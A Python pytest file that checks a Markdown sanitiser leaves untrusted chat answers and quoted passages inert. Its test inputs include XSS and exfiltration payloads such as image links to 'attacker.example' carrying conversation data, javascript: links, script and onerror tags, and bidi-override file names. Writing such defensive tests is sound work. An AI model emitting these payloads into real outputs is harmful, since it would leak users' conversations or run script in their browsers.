"""Untrusted text made inert for Markdown (ui.safe_text), read back by a CommonMark parser with
GFM's tables and strikethrough: no image, link, autolink, HTML or Streamlit directive survives,
code blocks, inline code and formatting do. (tests/e2e/test_untrusted_content.py checks the
same in Chromium.)"""

from __future__ import annotations

import re
import unicodedata

import pytest
from markdown_it import MarkdownIt
from markdown_it.token import Token

from ui.conversation import to_markdown
from ui.safe_text import (
    DEEPEST,
    escape_bidi,
    plain,
    plain_with_code,
    plain_with_code_line,
    quoted_with_code,
    safe_markdown,
)

PARSER = MarkdownIt("commonmark").enable(["table", "strikethrough"])
ACTIVE = {"image", "link_open", "html_inline", "html_block"}
POISON = [
    "![x](http://attacker.example/?q=conversation)",
    "![x][ref]\n\n[ref]: http://attacker.example/ref",
    "[click](javascript:alert(1))",
    "<http://attacker.example/autolink>",
    '<img src="http://attacker.example/i" onerror="alert(1)">',
    "<iframe src='http://attacker.example/f'></iframe>",
    "<script>alert(1)</script>",
    "\\![x](http://attacker.example/escaped-bang)",
    "\\\\![x](http://attacker.example/double-backslash)",
    "`code` ![x](http://attacker.example/after-code)",
    "| a | b |\n|---|---|\n| `x | ![y](http://attacker.example/cell) ` |",
    "1. item\n   ```\n   code\n![x](http://attacker.example/after-list-fence)",
    "[^1]\n\n[^1]: ![x](http://attacker.example/footnote)",
    "&lt;img src=x onerror=alert(1)&gt;",
    '<a href="`">`![x](http://attacker.example/straddle)`',
    "[a](http://attacker.example/`x`) ![b](http://attacker.example/`y`)",
    "`` ` ``![x](http://attacker.example/after-double) `",
    "\\`![x](http://attacker.example/escaped-tick)`",
    "| a | b |\n|---|---|\n| `a | b` | `![y](http://attacker.example/cell-code)` |",
]


def active(markdown: str) -> set[str]:
    tokens = PARSER.parse(markdown)
    return {t.type for block in tokens for t in [block, *(block.children or [])]} & ACTIVE


@pytest.mark.parametrize("text", POISON)
def test_nothing_active_survives(text: str) -> None:
    assert active(safe_markdown(text)) == set()
    assert active(plain(text)) == set()


def test_formatting_and_code_blocks_are_kept() -> None:
    answer = ("**Descale** the kettle monthly [1].\n\n- vinegar\n- water\n\n"
              "```python\nitems[0] = '<b>'\n```\n")
    safe = safe_markdown(answer)
    assert "\n````````python\nitems[0] = '<b>'\n````````\n" in safe  # code, as it is
    types = {t.type for t in PARSER.parse(safe)}
    assert {"bullet_list_open", "fence"} <= types
    rendered = PARSER.render(safe)
    assert "<strong>Descale</strong>" in rendered and "[1]" in rendered


@pytest.mark.parametrize("answer", [
    "> " * 3000 + "deep",  # quotes in quotes
    "- " * 3000 + "deep",  # lists in lists
    "1. " * 2000 + "deep",
    "**" * 5000 + "deep" + "**" * 5000,  # emphasis in emphasis
    "*a " * 40 + "deep" + " a*" * 40,
], ids=["quotes", "bullets", "numbers", "strong", "emphasis"])
def test_markdown_nested_past_any_answers_need_is_shown_as_text(answer: str) -> None:
    """Nested thousands deep, Markdown overflows the browser's renderer, which then draws a
    stack trace in the answer's place: such an answer shows as written instead."""
    tokens = PARSER.parse(safe_markdown(answer))
    deepest = max(t.level for block in tokens for t in [block, *(block.children or [])])
    assert deepest <= DEEPEST
    assert "deep" in PARSER.render(safe_markdown(answer))


def test_markdown_nested_a_few_levels_keeps_its_formatting() -> None:
    answer = "> quoted\n> > within\n\n- one\n  - two\n    - **three *four***\n"
    assert safe_markdown(answer).count(">") == answer.count(">")
    assert "<strong>three <em>four</em></strong>" in PARSER.render(safe_markdown(answer))


def test_plain_text_shows_as_written() -> None:
    title = "# 1. *Draft* <b>notes</b> | $5 ~x~ [a](b)"
    rendered = PARSER.renderInline(plain(title))
    assert rendered == "# 1. *Draft* &lt;b&gt;notes&lt;/b&gt; | $5 ~x~ [a](b)"
    assert PARSER.render(plain("1. not a list\n- nor this")).count("<li>") == 0


def test_quoted_code_shows_as_code_and_the_rest_as_written() -> None:
    """The offline answer quotes a document's sentences as written, "# Title" and "**note**"
    and all, and its code blocks as code, line by line."""
    answer = ("Run **this** as <b>root</b>: [1]\n\n```sh\npip install kettle\n\n"
              "kettle --descale <img src=x onerror=alert(1)>\n```\n[1]\n\n# Then wait. [2]")
    shown = plain_with_code(answer)
    tokens = PARSER.parse(shown)
    fences = [t for t in tokens if t.type == "fence"]
    assert [(t.info, t.content) for t in fences] == [
        ("sh", "pip install kettle\n\nkettle --descale <img src=x onerror=alert(1)>\n")]
    rendered = PARSER.render(shown)
    assert "Run **this** as &lt;b&gt;root&lt;/b&gt;: [1]" in rendered
    assert "# Then wait. [2]" in rendered and "<h1>" not in rendered
    assert active(shown) == set()


@pytest.mark.parametrize("text", POISON)
def test_quoted_text_with_code_is_inert(text: str) -> None:
    assert active(plain_with_code(text)) == set()
    assert active(plain_with_code(f"Intro: [1]\n\n```\n{text}\n```\n[1]\n\n{text}")) == set()


CITATION = ("To cite R in publications, use\n```\n@Manual{,\n  title = {R: A Language},\n\n"
            "  author = {R Core Team},\n}\n```\nwhere YEAR is the **year**.\n\nSee [1] <b>.")


def test_a_quoted_passage_shows_its_code_as_code_inside_the_quote() -> None:
    quote = quoted_with_code(CITATION)
    tokens = PARSER.parse(quote)
    assert tokens[0].type == "blockquote_open" and tokens[-1].type == "blockquote_close"
    assert [t.type for t in tokens].count("blockquote_open") == 1  # one quote, code and all
    (fence,) = [t for t in tokens if t.type == "fence"]
    assert fence.content == ("@Manual{,\n  title = {R: A Language},\n\n"
                             "  author = {R Core Team},\n}\n")
    assert visible(quote) == ("To cite R in publications, use\nwhere YEAR is the **year**.\n"
                              "See [1] <b>.")


@pytest.mark.parametrize("text", [
    *POISON,
    "```\ncode\n```\n<img src=x onerror=alert(1)>\n[x](javascript:alert(1))",
    "```\n<img src=x onerror=alert(1)>\n[x](javascript:alert(1))",  # never closed
    "text\n~~~\ncode\n```\n<img src=x onerror=alert(1)>\n~~~~\n[x](javascript:alert(1))",
    "````\n```\n````\n> ```\n> [x](javascript:alert(1))\n<script>alert(1)</script>",
    "- item\n  ```\n  code\n[x](javascript:alert(1))\n```\n<img src=x onerror=alert(1)>",
    "```\n\u2028```\n<img src=x onerror=alert(1)>\n\x0c```\n[x](javascript:alert(1))",
])
def test_a_quoted_passage_with_code_is_inert(text: str) -> None:
    """A fence in the passage ends where the quote's own fence ends: nothing after it, in
    the passage or after the quote, becomes active."""
    quote = quoted_with_code(text)
    assert active(quote) == set()
    # every fence closed inside the quote: the app's own words after it are not code
    after = PARSER.parse(f"{quote}\n\n**Page 2**")[-2]
    assert after.type == "inline" and after.level == 1 and after.children[1].type == "strong_open"


def test_a_preview_shows_a_code_block_as_its_first_line_of_code() -> None:
    assert visible(plain_with_code_line(CITATION)) == (
        "To cite R in publications, use\n`@Manual{,` …\nwhere YEAR is the **year**.\n"
        "See [1] <b>.")
    # backticks in the code do not end its span; a one-line block has nothing left out
    (span,) = [t for t in PARSER.parse(plain_with_code_line("```\n``x`\n```"))[1].children
               if t.type == "code_inline"]
    assert span.content == "``x`"


@pytest.mark.parametrize("text", [
    *POISON,
    "```\n<img src=x onerror=alert(1)>\n```\n[x](javascript:alert(1))",
    "```\n``\n```\n<img src=x onerror=alert(1)>",
    "```\n`[x](javascript:alert(1))`\n```",
    "text\n~~~\n```\n<img src=x onerror=alert(1)>\n~~~~\n[x](javascript:alert(1))",
])
def test_a_preview_with_code_is_inert(text: str) -> None:
    assert active(plain_with_code_line(text)) == set()


@pytest.mark.parametrize("separator", ["\x0b", "\x0c", "\x85", "\u2028", "\u2029", "\r"])
def test_text_before_a_code_block_is_kept_whatever_breaks_its_lines(separator: str) -> None:
    """Markdown breaks lines at "\n" and "\r" only: a form feed or U+2028 before a code block
    is inside a line, and the text around it stays, the block's closing fence too."""
    text = f"Build{separator}it with:\n```sh\nmake\n```\nthen test."
    for shown in (safe_markdown(text), plain_with_code(text)):
        fences = [t.content for t in PARSER.parse(shown) if t.type == "fence"]
        assert fences == ["make\n"]
        rendered = PARSER.render(shown)
        assert "it with:" in rendered and "then test." in rendered and "```" not in rendered


@pytest.mark.parametrize("context", ["{}", "- item\n{}", "> quote\n{}", "| a |\n|---|\n{}",
                                     "**Answer**:\n\n{}\n\nafter"])
def test_code_blocks_stay_code_in_any_context(context: str) -> None:
    answer = ("Intro\n   ```\n   x[0]\n![x](http://attacker.example/a)\n"
              "```js\nlet a = b < c;\n```\n~~~\nunclosed <img src=x>\n")
    assert active(context.format(safe_markdown(answer))) == set()


def test_the_export_is_inert() -> None:
    poison = " ".join(POISON)
    messages = [{"role": "user", "content": poison},
                {"role": "assistant", "content": poison, "generator": "workers-ai",
                 "model": "m", "notice": poison,
                 "citations": [{"source": f"upload:{poison}.md", "title": poison,
                                "text": poison, "page": None}]}]
    assert active(to_markdown(messages)) == set()


def open_around(tokens: list[Token], inner: Token) -> list[str]:
    """The blocks open where `inner` is, outermost first."""
    opened: list[str] = []
    for token in tokens[:tokens.index(inner)]:
        if token.nesting == 1:
            opened.append(token.type.removesuffix("_open"))
        elif token.nesting == -1:
            opened.pop()
    return opened


def exported_sources(*passages: str) -> str:
    return to_markdown([{"role": "user", "content": "How do I build it?"},
                        {"role": "assistant", "content": "Run make [1].",
                         "generator": "extractive", "model": "extractive (local)",
                         "citations": [{"source": f"upload:{n}.md", "title": f"Notes {n}",
                                        "text": text, "page": None}
                                       for n, text in enumerate(passages, start=1)]}])


def test_the_export_quotes_a_passage_with_its_code_blocks_as_code() -> None:
    build = ("# Build notes\n\nTo build the project run these two commands:\n\n"
             "```\nmake install\nmake check\n```\n\nThe build takes about five minutes.")
    tokens = PARSER.parse(exported_sources(build, "The tests take a minute."))
    (fence,) = [t for t in tokens if t.type == "fence"]
    assert fence.content == "make install\nmake check\n"  # two lines, as the chat shows them
    # inside the first source's quote, and the second source is an item of its own
    assert open_around(tokens, fence) == ["ordered_list", "list_item", "blockquote"]
    assert [t.type for t in tokens].count("list_item_open") == 2
    assert visible(exported_sources(build)).endswith(
        "# Build notes\nTo build the project run these two commands:\n"
        "The build takes about five minutes.")


@pytest.mark.parametrize("text", [
    "```\n<img src=x onerror=alert(1)>\n[x](javascript:alert(1))",  # never closed
    "text\n~~~\ncode\n```\n<img src=x onerror=alert(1)>\n~~~~\n[x](javascript:alert(1))",
    "- item\n  ```\n  code\n[x](javascript:alert(1))\n```\n<img src=x onerror=alert(1)>",
    "\n".join(POISON),
])
def test_an_exported_passage_with_code_is_inert_and_ends_in_its_source(text: str) -> None:
    exported = exported_sources(text, "The tests take a minute.")
    assert active(exported) == set()
    tokens = PARSER.parse(exported)
    assert [t.type for t in tokens].count("list_item_open") == 2  # the next source is one


def code_spans(markdown: str) -> list[str]:
    return [t.content for block in PARSER.parse(markdown) for t in block.children or []
            if t.type == "code_inline"]


@pytest.mark.parametrize("shown", [plain, safe_markdown])
def test_addresses_show_as_code_and_copy_as_written(shown) -> None:
    text = ("Docs at https://example.com/a_b?q=1, mirror (www.example.org/x). "
            "Mail bob.smith+kettle@example.net! | https://example.com/a|b")
    markdown = shown(text)
    assert code_spans(markdown) == ["https://example.com/a_b?q=1", "www.example.org/x",
                                    "bob.smith+kettle@example.net", "https://example.com/a"]
    assert "\u2060" not in markdown  # nothing invisible that a copy would carry
    assert active(markdown) == set()


# GFM's literal autolinks as Streamlit's renderer (remark-gfm) finds them in a text node: "www."
# at the node's start or after a space, a punctuation mark or a symbol ("_" among them);
# "http://" after anything but a letter; a mail address, its local part any run of letters,
# digits and ".+-_", after anything but "/". (A superset: the renderer also wants a domain
# that ends well.)
_GFM_LITERAL = re.compile(r"(?P<www>www\.[\w-])|(?P<http>https?://[\w-])"
                          r"|(?P<mail>[\w.+-]+@[\w-]+\.[\w-])", re.IGNORECASE | re.ASCII)


def gfm_autolinks(markdown: str) -> list[str]:
    """The addresses GFM would turn into links in the Markdown's text."""
    found = []
    texts = [t.content for block in PARSER.parse(markdown) for t in block.children or []
             if t.type == "text"]
    for text in texts:
        for match in _GFM_LITERAL.finditer(text):
            before = text[match.start() - 1] if match.start() else " "
            if match["www"]:
                linked = before.isspace() or unicodedata.category(before)[0] in "PS"
            elif match["http"]:
                linked = not (before.isascii() and before.isalpha())
            else:
                linked = before != "/"
            if linked:
                found.append(match.group())
    return found


AFTER = ["", " ", "_", "*", "~", "(", "[", "]", "-", ".", "/", "\\", '"', "'", "!", "#", "$",
         "%", "&", "+", "=", "?", "@", "^", "`", "{", "|", "}", ">", "<", "\u00a0", "\u3000",
         "\u2060", "\u00ab", "\u20ac", "\u0301", "a", "1", "\u00e9"]
# before an address, every kind of character: most of them GFM links after
LINKABLE = ([f"x{before}www.evil.example/p" for before in AFTER]
            + [f"x {before}www.evil.example/p" for before in AFTER]
            + [f"x{before}http://evil.example/p" for before in AFTER]
            + [f"mail {before}{local}@evil.example now" for before in AFTER
               for local in (".", "+", "-", "_", "a")]
            + ["See _www.evil.example/x_ now", "# Wallaby _www.wallaby-evil.example_ guide",
               "_WWW.evil.example", "**b**www.evil.example", "`c`.@evil.example",
               "_a_www.evil.example", "mail a@-x.example now", "mail x@y_z.example now"])


@pytest.mark.parametrize("text", LINKABLE)
@pytest.mark.parametrize("shown", [plain, safe_markdown])
def test_no_address_can_become_a_link(shown, text: str) -> None:
    assert gfm_autolinks(shown(text)) == []


@pytest.mark.parametrize("shown", [plain, safe_markdown])
def test_addresses_after_an_underscore_or_of_punctuation_show_as_code(shown) -> None:
    text = "Claims go to _www.claims.example/form_ now, or mail .@a.example or +@b.example."
    assert code_spans(shown(text)) == ["www.claims.example/form", ".@a.example", "+@b.example"]


def test_an_address_in_the_models_own_code_is_left_to_it() -> None:
    markdown = safe_markdown("Run `curl https://example.com/x` to fetch https://example.org")
    assert code_spans(markdown) == ["curl https://example.com/x", "https://example.org"]
    assert "\u2060" not in markdown
    assert active(markdown) == set()


def test_the_models_inline_code_is_kept_as_written() -> None:
    answer = ("Use `![i](http://attacker.example/i.png) [a](b)`, ``a ` b <c> $d$ \\``, "
              "`status:red :smile: :material/home:` and `x | y` outside [e](f).")
    markdown = safe_markdown(answer)
    assert code_spans(markdown) == ["![i](http://attacker.example/i.png) [a](b)",
                                    "a ` b <c> $d$ \\", "status:red :smile: :material/home:"]
    assert active(markdown) == set()
    # a span holding a "|" is text: a table would split its cell there
    assert "`x | y` outside [e](f)." in visible(markdown)


@pytest.mark.parametrize(("text", "spans"), [
    ("a ` b `` c [x](y)", []),  # runs without a partner are text
    ("\\`not code` <b>", []),  # an escaped backtick opens nothing
    ("\\``rest of the run` <b>", ["rest of the run"]),
    ("``one ` inside``", ["one ` inside"]),
    ('<a href="`">`<img src=x onerror=alert(1)>`', ['">']),  # the tag began before
    ("[a](http://attacker.example/`x`)", ["http://attacker.example/", "x"]),
    ("`code`https://example.com/x", ["code", "https://example.com/x"]),
    ("`a | b` `<img src=x onerror=alert(1)>`", ["<img src=x onerror=alert(1)>"]),
])
def test_code_spans_are_found_as_commonmark_finds_them(text: str, spans: list[str]) -> None:
    markdown = safe_markdown(text)
    assert code_spans(markdown) == spans
    assert active(markdown) == set()
    assert active(f"| a |\n|---|\n{markdown}") == set()  # nor when a table splits the line


def test_text_beside_inline_code_shows_as_typed() -> None:
    text = "1 \\` 2 `c` [d](e) <f> $g$ x:y \\\\`h` ``"
    assert visible(safe_markdown(text)) == text


DIRECTIVES = [
    "status:red mode:green level:rainbow", ":blue-badge[BADGE] :small[tiny] :help[tip]",
    'x:red{style="background:url(//attacker.example/a.png)" onclick="alert(1)"}',
    "Re:Meeting{hidden} at 10:30{hidden} caf\u00e9:\u00fcber{hidden}",
    "::leaf[label]{a=1}", ":::box\ninside the box\n:::", "\\::red[x] :\\red",
]


@pytest.mark.parametrize("text", DIRECTIVES)
@pytest.mark.parametrize("shown", [plain, safe_markdown])
def test_no_directive_can_form(text: str, shown) -> None:
    markdown = shown(text)
    assert directive_colons(markdown) == []
    assert visible(markdown).replace("\u2060", "") == text


@pytest.mark.parametrize("shown", [plain, safe_markdown])
def test_icon_and_emoji_names_show_as_typed(shown) -> None:
    text = ":material/home: :material_home: :smile: :streamlit: a:b:c"
    markdown = shown(text)
    assert ":material/" not in markdown  # Streamlit looks for it before it parses
    assert not re.search(r":[\w-]+:", visible(markdown))  # nor does the emoji lookup see one
    assert visible(markdown).replace("\u2060", "") == text


def visible(markdown: str) -> str:
    """The text a reader sees, inline code with its backticks, line breaks as "\\n"."""
    return "\n".join("".join(map(shown_as, block.children))
                     for block in PARSER.parse(markdown) if block.children is not None)


def shown_as(token: Token) -> str:
    if token.type == "code_inline":
        return f"{token.markup}{token.content}{token.markup}"
    return "\n" if token.type.endswith("break") else token.content


# a colon as written (not escaped, not in code) with a directive name's first character after
# it: remark-directive, which Streamlit reads, would begin one there
_RAW = MarkdownIt("commonmark").enable(["table", "strikethrough"]).disable("text_join")
_DIRECTIVE_START = re.compile(r":(?=[^\s!-/:-@\[-`{-~\0])")


def directive_colons(markdown: str) -> list[str]:
    text = "\0".join("".join(token.content if token.type == "text" else "\0"
                             for token in block.children)
                     for block in _RAW.parse(markdown) if block.children is not None)
    return [text[m.start():m.start() + 12] for m in _DIRECTIVE_START.finditer(text)]


# embeddings, overrides, isolates and marks: each reorders the text around it on screen
BIDI_CONTROLS = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"


@pytest.mark.parametrize("control", BIDI_CONTROLS)
@pytest.mark.parametrize("shown", [plain, safe_markdown])
def test_bidi_controls_show_as_escapes(shown, control: str) -> None:
    text = f"invoice944{control}fdp.txt: ingested (1 chunk)"
    markdown = shown(text)
    assert not set(BIDI_CONTROLS) & set(markdown)
    assert visible(markdown) == text.replace(control, f"\\u{ord(control):04x}")


def test_bidi_controls_in_code_and_table_cells_show_as_escapes() -> None:
    markdown = safe_markdown("Run `cp a\u202eb c` then\n```\nmv x\u2067y z\n```\n")
    assert code_spans(markdown) == ["cp a\\u202eb c"]
    assert "mv x\\u2067y z\n" in markdown and "\u202e" not in markdown
    assert escape_bidi("kettle \u202egnp.txt") == "kettle \\u202egnp.txt"  # outside Markdown


CHARACTER_REFERENCES = ("In HTML you write &lt;br&gt; and AT&amp;T as AT&amp;amp;T; "
                        "&copy; &#65; &nbsp;x &#x5B;e](javascript:x) &quot;q&quot; a & b &")


@pytest.mark.parametrize("shown", [plain, safe_markdown])
def test_character_references_show_as_written(shown) -> None:
    markdown = shown(CHARACTER_REFERENCES)
    assert visible(markdown) == CHARACTER_REFERENCES
    assert active(markdown) == set()


def test_an_ampersand_in_code_shows_once() -> None:
    markdown = safe_markdown("Type `AT&amp;T & co` or visit https://example.com/?a=1&b=2\n\n"
                             "```html\n<p>&copy; AT&amp;T</p>\n```\n")
    assert code_spans(markdown) == ["AT&amp;T & co", "https://example.com/?a=1&b=2"]
    assert "\n<p>&copy; AT&amp;T</p>\n" in markdown  # the block as written
    assert code_spans(plain("see https://example.com/?a=1&b=2")) == [
        "https://example.com/?a=1&b=2"]
